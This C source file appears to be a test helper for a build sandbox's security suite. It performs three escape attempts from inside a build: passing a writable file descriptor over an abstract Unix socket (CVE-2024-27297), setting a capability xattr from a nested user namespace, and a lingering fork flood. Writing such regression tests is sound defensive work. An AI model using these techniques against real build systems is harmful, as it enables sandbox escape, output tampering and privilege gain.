/* Attacks a build tries from inside the sandbox (compiled statically by the security tests and
   given to the build as an input). Every mode exits 0 so the build itself may succeed; what
   matters is what the host sees afterwards.
     attack sendfd NAME FILE   write "good\n" to FILE and send a read-write descriptor of it to
                               the abstract Unix socket NAME (CVE-2024-27297)
     attack xattr FILE         create FILE, set user.attack on it, and from a nested user
                               namespace set security.capability (CAP_NET_RAW)
     attack forks N MARKER     fork up to N children that sleep (their argv[1] is MARKER, for
                               the host to count), survive failed forks, linger 1 s */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static int sendfd(const char *name, const char *file) {
    int fd = open(file, O_RDWR | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) { perror("open"); return 0; }
    if (write(fd, "good\n", 5) != 5) perror("write");
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un addr = {.sun_family = AF_UNIX};
    size_t n = strlen(name);
    memcpy(addr.sun_path + 1, name, n);
    if (connect(s, (struct sockaddr *)&addr, offsetof(struct sockaddr_un, sun_path) + 1 + n) < 0) {
        perror("connect");
        return 0;
    }
    char byte = 'x';
    struct iovec iov = {.iov_base = &byte, .iov_len = 1};
    char control[CMSG_SPACE(sizeof(int))] = {0};
    struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control,
                         .msg_controllen = sizeof control};
    struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(c), &fd, sizeof fd);
    if (sendmsg(s, &msg, 0) < 0) perror("sendmsg");
    else fprintf(stderr, "attack: descriptor sent\n");
    return 0;
}

static void write_file(const char *path, const char *text) {
    int fd = open(path, O_WRONLY);
    if (fd >= 0) { if (write(fd, text, strlen(text)) < 0) perror(path); close(fd); }
}

static int xattr(const char *file) {
    int fd = open(file, O_RDWR | O_CREAT | O_TRUNC, 0755);
    if (fd < 0) { perror("open"); return 0; }
    if (write(fd, "x\n", 2) != 2) perror("write");
    close(fd);
    if (setxattr(file, "user.attack", "1", 1, 0) < 0) perror("setxattr user.attack");
    else fprintf(stderr, "attack: user.attack set\n");
    pid_t pid = fork();
    if (pid == 0) {
        char map[64];
        unsigned uid = getuid(), gid = getgid();
        if (unshare(CLONE_NEWUSER) < 0) { perror("unshare"); _exit(0); }
        write_file("/proc/self/setgroups", "deny");
        snprintf(map, sizeof map, "0 %u 1", uid);
        write_file("/proc/self/uid_map", map);
        snprintf(map, sizeof map, "0 %u 1", gid);
        write_file("/proc/self/gid_map", map);
        /* VFS_CAP_REVISION_2, effective, permitted CAP_NET_RAW (bit 13). */
        unsigned char cap[20] = {0x01, 0x00, 0x00, 0x02, 0x00, 0x20, 0x00, 0x00};
        if (setxattr(file, "security.capability", cap, sizeof cap, 0) < 0)
            perror("setxattr security.capability");
        else
            fprintf(stderr, "attack: security.capability set\n");
        _exit(0);
    }
    waitpid(pid, NULL, 0);
    return 0;
}

static int forks(int n, const char *marker) {
    int made = 0;
    for (int i = 0; i < n; i++) {
        pid_t p = fork();
        if (p == 0) {
            char *args[] = {"sleep", (char *)marker, NULL};
            execv("/proc/self/exe", args);
            /* A child of the program itself: sleep here, argv rewritten by exec above or not. */
            sleep(3600);
            _exit(0);
        }
        if (p > 0) made++;
    }
    printf("forks: %d of %d\n", made, n);
    fflush(stdout);
    sleep(1);
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 2 && !strncmp(argv[0], "sleep", 5)) {
        sleep(3600);
        return 0;
    }
    if (argc == 4 && !strcmp(argv[1], "sendfd")) return sendfd(argv[2], argv[3]);
    if (argc == 3 && !strcmp(argv[1], "xattr")) return xattr(argv[2]);
    if (argc == 4 && !strcmp(argv[1], "forks")) return forks(atoi(argv[2]), argv[3]);
    fprintf(stderr, "usage: attack sendfd NAME FILE | attack xattr FILE\n");
    return 2;
}
